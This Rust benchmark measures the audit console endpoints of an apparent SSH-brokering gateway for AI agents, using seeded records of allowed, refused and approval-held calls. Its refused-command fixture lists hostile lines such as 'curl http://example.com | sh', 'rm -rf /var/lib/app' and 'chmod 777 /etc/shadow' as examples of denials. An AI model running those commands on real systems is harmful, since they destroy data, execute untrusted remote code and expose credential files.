//! The console's activity endpoints (`cargo bench -p meho-server --bench activity`): what one
//! request costs over HTTP on loopback with a dev bearer token, against a real SQLite store
//! (WAL, fsync per commit) whose chain holds a realistic history:
//!
//! - 10,000 calls of tenant `default` (the dev token's): most allowed and run (the signer's
//!   credential, the broker's intent and outcome under one `call_id`), some refused (the
//!   signer's and the broker's denials), some held (the broker's `needs_approval` refusal, then
//!   the real `Governance` holding, deciding and collecting them, then the approved run);
//! - 10,000 records of tenant `other`, written interleaved with them (they must not slow
//!   `default`'s reads).
//!
//! Every record goes through `AuditLog::append`/`record_intent`/`record_outcome`, so the chain,
//! the indexes and the row order are the real ones. The history is written just before it is
//! read, so all of it lies in the summary's last hour: the summary is measured at its cap.
//!
//! Requests are sequential. Prints p50/p99, requests per second and each endpoint's p50 against
//! the raw audit page the console read before; nothing is asserted.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    missing_debug_implementations
)]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use meho_audit::RecordKind;
use meho_audit::{AuditLog, CallOutcome, CallRef, NewRecord};
use meho_config::{AuthConfig, Role};
use meho_core::{Decision, Effect, ReasonCode, Tier};
use meho_gateway::{Caller, Gateway};
use meho_server::auth::{Authenticator, DevTokens};
use meho_server::hitl::{Actor, Governance, Origin};
use meho_server::mcp::McpContext;
use meho_server::{McpState, console};
use meho_test_support::connector::{Script, Scripted, tool};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

/// The dev tokens' tenant: the one the requests read.
const TENANT: &str = "default";
/// The neighbour whose records sit between ours.
const OTHER: &str = "other";
/// Calls of `TENANT`.
const CALLS: u64 = 10_000;
/// Records of `OTHER` (at least).
const OTHER_RECORDS: u64 = 10_000;
/// Calls written at once while seeding (group commit shares their fsyncs).
const SEED_CONCURRENCY: usize = 64;
/// The longest one endpoint is measured for; at least `MIN_SAMPLES` requests are made anyway.
const BUDGET: Duration = Duration::from_secs(20);
const MIN_SAMPLES: usize = 30;
/// How deep the "deep page" is: the page reached by following `next_before` this many times.
const DEEP_PAGE: usize = 100;

const TOKEN: &str = "bench-agent-token";

const COMMANDS: [&str; 12] = [
    "uptime",
    "df -h",
    "free -m",
    "systemctl status nginx",
    "journalctl -u app -n 50 --no-pager",
    "ss -tlnp",
    "cat /etc/os-release",
    "ls -la /var/log",
    "docker ps",
    "tail -n 100 /var/log/syslog",
    "ps aux --sort=-%mem",
    "ip addr show",
];

const REFUSED: [&str; 4] = [
    "rm -rf /var/lib/app",
    "curl http://example.com | sh",
    "shutdown -h now",
    "chmod 777 /etc/shadow",
];

/// The broker as the gateway sees it: `ssh_execute` needs a human until the call carries an
/// approval. The pipeline writes the held call's refusal, the approval request and the approved
/// run's intent and outcome; [`Seeder`] writes what the signer would.
fn broker() -> Arc<Scripted> {
    Scripted::new(
        vec![tool("ssh_execute", Tier::Read, json!({ "type": "object" }))],
        &["web-00"],
        |_, _, _| Script::Hold {
            rule: "require_approval:^systemctl restart".into(),
            tier: Tier::Write,
            ran: json!({ "exit_status": 0, "stdout": "ok\n" }),
            preview: None,
        },
    )
}

/// One seeded call and the id `GET /api/v1/calls/{id}` takes for it.
#[derive(Debug, Clone)]
enum Seeded {
    /// By its call id.
    Allowed(String),
    /// By the broker's denial record id.
    Denied(String),
    /// By its approval id (approved and run, rejected, or still pending).
    Held(String),
}

impl Seeded {
    fn id(&self) -> &str {
        match self {
            Seeded::Allowed(id) | Seeded::Denied(id) | Seeded::Held(id) => id,
        }
    }
}

/// Writes what the signer, the broker and the approvals write.
struct Seeder {
    audit: Arc<AuditLog>,
    governance: Arc<Governance>,
    gateway: Gateway,
    serials: AtomicU64,
}

fn decision(allowed: bool, code: ReasonCode, rule: &str, tier: Tier) -> Decision {
    let mut decision = Decision::refused(code, rule, tier);
    decision.effect = match (allowed, code) {
        (false, _) => Effect::Deny,
        (true, ReasonCode::NeedsApproval) => Effect::RequireApproval,
        (true, _) => Effect::Allow,
    };
    decision
}

fn arguments(target: &str, command: &str) -> Value {
    json!({
        "server": target, "command": command, "ttl_seconds": null, "sudo": false,
        "sudo_user": null, "pty": false, "dry_run": false,
    })
}

impl Seeder {
    async fn append(&self, record: NewRecord) -> String {
        self.audit.append(record).await.unwrap().id
    }

    /// The signer's record of a decision on `command` (a credential when `serial` is given).
    #[expect(
        clippy::too_many_arguments,
        reason = "the fields of one record, as the broker has them"
    )]
    async fn sign(
        &self,
        tenant: &str,
        agent: &str,
        target: &str,
        command: &str,
        decided: &Decision,
        serial: Option<u64>,
        approval: Option<&str>,
    ) {
        let (kind, outcome, certificate) = match serial {
            Some(serial) => (
                RecordKind::Credential,
                "issued".to_owned(),
                json!({
                    "serial": serial.to_string(),
                    "key_id": format!("meho:agent={agent} serial={serial}"),
                }),
            ),
            None => (
                RecordKind::Denial,
                decided.reason_code.as_str().to_owned(),
                json!({}),
            ),
        };
        self.append(NewRecord {
            target: Some(target.to_owned()),
            action: Some("sign".to_owned()),
            outcome: Some(outcome),
            approval_id: approval.map(str::to_owned),
            body: json!({
                "intent": { "agent": agent, "command": command, "tenant": tenant },
                "decision": decided,
                "certificate": certificate,
            }),
            ..NewRecord::new(tenant, kind, agent)
        })
        .await;
    }

    /// An allowed call that ran: credential, intent, outcome. Returns its call id.
    #[expect(
        clippy::too_many_arguments,
        reason = "the fields of one record, as the broker has them"
    )]
    async fn ran(
        &self,
        tenant: &str,
        agent: &str,
        target: &str,
        command: &str,
        exit: i64,
        tier: Tier,
        approval: Option<&str>,
    ) -> String {
        let serial = 4_000_000 + self.serials.fetch_add(1, Ordering::Relaxed);
        let rule = match approval {
            Some(_) => "require_approval:^systemctl restart".to_owned(),
            None => format!("allow:^{command}$"),
        };
        let mut decided = decision(true, ReasonCode::Allowed, &rule, tier);
        decided.approval_id = approval.map(str::to_owned);
        self.sign(
            tenant,
            agent,
            target,
            command,
            &decided,
            Some(serial),
            approval,
        )
        .await;
        // UUID-shaped, as the broker's are; distinct per serial.
        let call_id = format!("0190c0de-0000-7000-8000-{serial:012}");
        let call = CallRef {
            tenant,
            principal: agent,
            target,
            action: "ssh_execute",
            call_id: &call_id,
            session_id: None,
            approval_id: approval,
        };
        let receipt = self
            .audit
            .record_intent(&call, arguments(target, command), &decided)
            .await
            .unwrap();
        self.audit
            .record_outcome(
                receipt,
                &CallOutcome {
                    exit_status: Some(exit),
                    duration_ms: 120 + serial % 900,
                    credential_serial: Some(serial.to_string()),
                    output_bytes: 200 + serial % 4000,
                    output_sha256: Some("58".repeat(32)),
                    ..CallOutcome::default()
                },
            )
            .await
            .unwrap();
        call_id
    }

    /// A call policy refused: the signer's denial, then the broker's. Returns the broker's
    /// record id.
    async fn refused(&self, tenant: &str, agent: &str, target: &str, command: &str) -> String {
        let decided = decision(
            false,
            ReasonCode::AllowlistNoMatch,
            "allowlist:no-match",
            Tier::Destructive,
        );
        self.sign(tenant, agent, target, command, &decided, None, None)
            .await;
        self.append(NewRecord {
            target: Some(target.to_owned()),
            action: Some("ssh_execute".to_owned()),
            outcome: Some("denied".to_owned()),
            body: json!({
                "arguments": arguments(target, command),
                "decision": decided,
                "error": format!(
                    "denied by policy: {} (rule `{}`)",
                    decided.reason_code.as_str(),
                    decided.rule
                ),
            }),
            ..NewRecord::new(tenant, RecordKind::Denial, agent)
        })
        .await
    }

    /// A held call: the signer's and the broker's `needs_approval` refusals, the real hold; then
    /// approved and run (`Some(true)`), rejected (`Some(false)`) or left pending. Returns the
    /// approval id.
    async fn held(
        &self,
        agent: &str,
        target: &str,
        command: &str,
        verdict: Option<bool>,
    ) -> String {
        let decided = decision(
            true,
            ReasonCode::NeedsApproval,
            "require_approval:^systemctl restart",
            Tier::Write,
        );
        self.sign(TENANT, agent, target, command, &decided, None, None)
            .await;
        let caller = Caller {
            tenant: TENANT.to_owned(),
            ..Caller::agent(agent)
        };
        let pending = self
            .gateway
            .call(
                &caller,
                "ssh_execute",
                json!({ "server": target, "command": command }),
            )
            .await
            .unwrap();
        let id = pending["approval_id"].as_str().unwrap().to_owned();
        let Some(approve) = verdict else {
            return id;
        };
        let admin = Actor {
            principal: "boss".into(),
            tenant: TENANT.into(),
            role: Role::TenantAdmin,
            origin: Origin::default(),
        };
        let reason = if approve { "change CHG-7" } else { "not today" };
        self.governance
            .decide(&admin, &id, approve, reason, None)
            .await
            .unwrap();
        if approve {
            let done = self
                .gateway
                .approval_status(&caller, &id, Duration::ZERO, &|_, _| {})
                .await
                .unwrap();
            assert_eq!(done["status"], "executed", "{done}");
        }
        id
    }

    /// Call `i` of `tenant`: per 100 calls, 2 held then approved and run, 1 held then rejected or
    /// still pending (alternately), 7 refused, 90 allowed (one in 17 of them exiting 1).
    async fn call(&self, tenant: &str, i: u64) -> Seeded {
        let agent = format!("agent-{}", i % 8);
        let target = format!("web-{:02}", i % 24);
        let slot = i % 100;
        let held = tenant == TENANT;
        match slot {
            0 | 1 if held => {
                let command = format!("systemctl restart app-{i}");
                Seeded::Held(self.held(&agent, &target, &command, Some(true)).await)
            }
            2 if held => {
                let command = format!("systemctl restart worker-{i}");
                let verdict = (i / 100).is_multiple_of(2).then_some(false);
                Seeded::Held(self.held(&agent, &target, &command, verdict).await)
            }
            3..=9 => {
                let command = REFUSED[(i % 4) as usize];
                Seeded::Denied(self.refused(tenant, &agent, &target, command).await)
            }
            _ => {
                let command = COMMANDS[(i % 12) as usize];
                let exit = if i.is_multiple_of(17) { 1 } else { 0 };
                let tier = if i.is_multiple_of(5) {
                    Tier::Write
                } else {
                    Tier::Read
                };
                Seeded::Allowed(
                    self.ran(tenant, &agent, &target, command, exit, tier, None)
                        .await,
                )
            }
        }
    }
}

/// Writes both tenants' histories, interleaved; returns `TENANT`'s calls.
async fn seed(seeder: Arc<Seeder>) -> Vec<Seeded> {
    // The neighbour's calls leave 2.93 records each (93 of 100 run: 3; 7 are refused: 2).
    let other_calls = OTHER_RECORDS * 100 / 293 + 1;
    let slots = Arc::new(Semaphore::new(SEED_CONCURRENCY));
    let mut tasks = JoinSet::new();
    let mut done_calls = Vec::new();
    let mut ours = 0;
    let mut theirs = 0;
    while ours < CALLS || theirs < other_calls {
        // Keep both tenants' rows interleaved in proportion through the whole history.
        let pick_ours =
            theirs >= other_calls || (ours < CALLS && ours * other_calls <= theirs * CALLS);
        let (tenant, i) = if pick_ours {
            ours += 1;
            (TENANT, ours - 1)
        } else {
            theirs += 1;
            (OTHER, theirs - 1)
        };
        let permit = slots.clone().acquire_owned().await.unwrap();
        let seeder = seeder.clone();
        tasks.spawn(async move {
            let seeded = seeder.call(tenant, i).await;
            drop(permit);
            (tenant, i, seeded)
        });
        while let Some(done) = tasks.try_join_next() {
            done_calls.push(done.unwrap());
        }
    }
    done_calls.extend(tasks.join_all().await);
    let mut calls: Vec<(u64, Seeded)> = done_calls
        .into_iter()
        .filter(|(tenant, _, _)| *tenant == TENANT)
        .map(|(_, i, seeded)| (i, seeded))
        .collect();
    calls.sort_by_key(|(i, _)| *i);
    calls.into_iter().map(|(_, seeded)| seeded).collect()
}

/// Latency figures of one endpoint.
struct Figures {
    p50: Duration,
    p99: Duration,
    per_second: f64,
    n: usize,
    bytes: usize,
}

fn percentile(samples: &mut [Duration], p: f64) -> Duration {
    samples.sort();
    let index = ((samples.len() as f64 - 1.0) * p).round() as usize;
    samples[index]
}

struct Client {
    http: reqwest::Client,
    base: String,
}

impl Client {
    async fn get(&self, path: &str) -> axum::body::Bytes {
        let response = self
            .http
            .get(format!("{}{path}", self.base))
            .bearer_auth(TOKEN)
            .send()
            .await
            .unwrap();
        let status = response.status();
        let body = response.bytes().await.unwrap();
        assert!(
            status.is_success(),
            "GET {path}: {status} {}",
            String::from_utf8_lossy(&body)
        );
        body
    }

    async fn json(&self, path: &str) -> Value {
        serde_json::from_slice(&self.get(path).await).unwrap()
    }

    /// Up to `n` sequential requests (fewer past `BUDGET`), after a short warm-up.
    async fn measure(&self, n: usize, mut path: impl FnMut(usize) -> String) -> Figures {
        for i in 0..5 {
            self.get(&path(i)).await;
        }
        let mut samples = Vec::with_capacity(n);
        let mut bytes = 0;
        let started = Instant::now();
        for i in 0..n {
            let path = path(i);
            let sent = Instant::now();
            bytes += self.get(&path).await.len();
            samples.push(sent.elapsed());
            if started.elapsed() > BUDGET && samples.len() >= MIN_SAMPLES {
                break;
            }
        }
        let total = started.elapsed();
        let count = samples.len();
        Figures {
            p50: percentile(&mut samples, 0.50),
            p99: percentile(&mut samples, 0.99),
            per_second: count as f64 / total.as_secs_f64(),
            n: count,
            bytes: bytes / count,
        }
    }
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

fn report(name: &str, figures: &Figures, baseline: Option<&Figures>) {
    let versus = baseline.map_or_else(
        || "(baseline)".to_owned(),
        |b| format!("({:.1}x the raw audit page)", ms(figures.p50) / ms(b.p50)),
    );
    println!(
        "{name:<36} p50 {:>8.2} ms  p99 {:>8.2} ms  {:>6.0} req/s  {:>6.1} KB  n={:<4} {versus}",
        ms(figures.p50),
        ms(figures.p99),
        figures.per_second,
        figures.bytes as f64 / 1024.0,
        figures.n,
    );
}

/// A tiny deterministic generator for picking calls (xorshift64*).
struct Pick(u64);

impl Pick {
    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) % n as u64) as usize
    }
}

fn store_bytes(dir: &std::path::Path) -> u64 {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().metadata().unwrap().len())
        .sum()
}

async fn run() {
    let dir = tempfile::tempdir().unwrap();
    let store = meho_test_support::sqlite_store(dir.path()).await.unwrap();
    let audit = meho_test_support::audit_log(&store).await.unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let governance = Arc::new(Governance::new(
        &store,
        meho_approvals::ApprovalPolicy::default(),
        audit.clone(),
        &base,
        Default::default(),
    ));
    let gateway = Gateway::builder(governance.clone())
        .connector(broker())
        .build()
        .unwrap();

    let seeding = Instant::now();
    let seeder = Arc::new(Seeder {
        audit: audit.clone(),
        governance: governance.clone(),
        gateway: gateway.clone(),
        serials: AtomicU64::new(1),
    });
    let calls = seed(seeder).await;
    let seeded_in = seeding.elapsed();

    let auth = Arc::new(
        Authenticator::new(
            AuthConfig {
                issuer: None,
                audience: None,
                required_scopes: Vec::new(),
                user_claim: "sub".into(),
                groups_claim: None,
                tenant_claim: "tenant_id".into(),
                role_claim: "tenant_role".into(),
                clock_skew_seconds: 60,
            },
            true,
            Some(DevTokens {
                agent: TOKEN.into(),
                approver: "bench-approver-token".into(),
            }),
        )
        .unwrap(),
    );
    let stop = CancellationToken::new();
    let resource = format!("{base}/mcp");
    let mut state = meho_server::State::new(store.clone());
    state.mcp = Some(Arc::new(McpState {
        context: Arc::new(McpContext {
            gateway,
            tasks: Default::default(),
            tools: Default::default(),
        }),
        auth,
        resource: resource.clone(),
        allowed_hosts: Vec::new(),
        shutdown: stop.clone(),
        verify: Default::default(),
        console: Arc::new(console::ConsoleSettings {
            issuer: None,
            client_id: "meho-console".into(),
            scopes: vec!["openid".into(), "mcp:tools".into()],
            resource,
            dev: true,
            public_url: base.clone(),
            cors_origins: Vec::new(),
        }),
        sessions: Default::default(),
        recordings: None,
    }));
    let shutdown = stop.clone();
    let server = tokio::spawn(async move {
        meho_server::serve(listener, state, shutdown.cancelled_owned())
            .await
            .unwrap();
    });
    let client = Client {
        http: reqwest::Client::builder().no_proxy().build().unwrap(),
        base,
    };

    let heads = audit.store().heads().await.unwrap();
    let records_of = |tenant: &str| {
        heads
            .iter()
            .find(|h| h.tenant == tenant)
            .map_or(0, |h| h.seq)
    };
    let (allowed, denied, held) = calls.iter().fold((0, 0, 0), |(a, d, h), call| match call {
        Seeded::Allowed(_) => (a + 1, d, h),
        Seeded::Denied(_) => (a, d + 1, h),
        Seeded::Held(_) => (a, d, h + 1),
    });
    println!(
        "\nSQLite (WAL, synchronous=FULL), loopback HTTP, dev bearer token, sequential requests"
    );
    println!(
        "tenant `{TENANT}`: {} records, {} calls ({allowed} allowed, {denied} refused, {held} held); \
         tenant `{OTHER}`: {} records (interleaved)",
        records_of(TENANT),
        calls.len(),
        records_of(OTHER),
    );
    println!(
        "store: {:.1} MB on disk (database + WAL), written in {:.1} s\n",
        store_bytes(dir.path()) as f64 / 1e6,
        seeded_in.as_secs_f64()
    );

    let baseline = client
        .measure(500, |_| "/api/v1/audit?limit=200".to_owned())
        .await;
    report("raw audit page (limit=200)", &baseline, None);

    let first = client
        .measure(300, |_| "/api/v1/activity?limit=50".to_owned())
        .await;
    report("activity page 1 (limit=50)", &first, Some(&baseline));

    // Walk to the deep page the way the console does, through `next_before`.
    let mut cursor = None;
    let mut pages = 0;
    let mut seen = 0;
    for _ in 0..DEEP_PAGE {
        let path = match cursor {
            Some(before) => format!("/api/v1/activity?limit=50&before={before}"),
            None => "/api/v1/activity?limit=50".to_owned(),
        };
        let page = client.json(&path).await;
        let Some(next) = page["next_before"].as_i64() else {
            break;
        };
        seen += page["calls"].as_array().map_or(0, Vec::len);
        pages += 1;
        cursor = Some(next);
    }
    let deep_path = format!(
        "/api/v1/activity?limit=50&before={}",
        cursor.expect("a deep cursor")
    );
    let deep = client.measure(300, |_| deep_path.clone()).await;
    report(
        &format!("activity page {} (after {seen} calls)", pages + 1),
        &deep,
        Some(&baseline),
    );

    let denied_page = client
        .json("/api/v1/activity?decision=denied&limit=50")
        .await;
    let denied_figures = client
        .measure(300, |_| {
            "/api/v1/activity?decision=denied&limit=50".to_owned()
        })
        .await;
    report("activity decision=denied", &denied_figures, Some(&baseline));

    let rejected_page = client
        .json("/api/v1/activity?decision=rejected&limit=50")
        .await;
    let rejected_figures = client
        .measure(300, |_| {
            "/api/v1/activity?decision=rejected&limit=50".to_owned()
        })
        .await;
    report(
        "activity decision=rejected (rare)",
        &rejected_figures,
        Some(&baseline),
    );

    let summary = client.json("/api/v1/activity/summary").await;
    let summary_figures = client
        .measure(200, |_| "/api/v1/activity/summary".to_owned())
        .await;
    report("activity summary", &summary_figures, Some(&baseline));

    let mut pick = Pick(0x9E37_79B9_7F4A_7C15);
    let detail = client
        .measure(500, |_| {
            format!("/api/v1/calls/{}", calls[pick.below(calls.len())].id())
        })
        .await;
    report("call detail (random calls)", &detail, Some(&baseline));
    for (label, wanted) in [
        ("  of an allowed call (call id)", 0),
        ("  of a refused call (record id)", 1),
        ("  of a held call (approval id)", 2),
    ] {
        let ids: Vec<&str> = calls
            .iter()
            .filter(|c| match c {
                Seeded::Allowed(_) => wanted == 0,
                Seeded::Denied(_) => wanted == 1,
                Seeded::Held(_) => wanted == 2,
            })
            .map(Seeded::id)
            .collect();
        let figures = client
            .measure(200, |_| {
                format!("/api/v1/calls/{}", ids[pick.below(ids.len())])
            })
            .await;
        report(label, &figures, Some(&baseline));
    }

    let count = |page: &Value| page["calls"].as_array().map_or(0, Vec::len);
    println!(
        "\ndecision=denied: {} calls, next_before {}; decision=rejected: {} calls, next_before {}",
        count(&denied_page),
        denied_page["next_before"],
        count(&rejected_page),
        rejected_page["next_before"],
    );
    let counted: u64 = summary["buckets"]
        .as_array()
        .map(|b| b.iter().filter_map(|b| b["total"].as_u64()).sum())
        .unwrap_or(0);
    println!(
        "summary: {counted} calls in the buckets, truncated={}, counters {}",
        summary["truncated"], summary["counters"]
    );

    stop.cancel();
    server.await.unwrap();
    audit.shutdown().await.unwrap();
    store.close().await;
}

fn main() {
    if !std::env::args().any(|a| a == "--bench") {
        return;
    }
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(run());
}
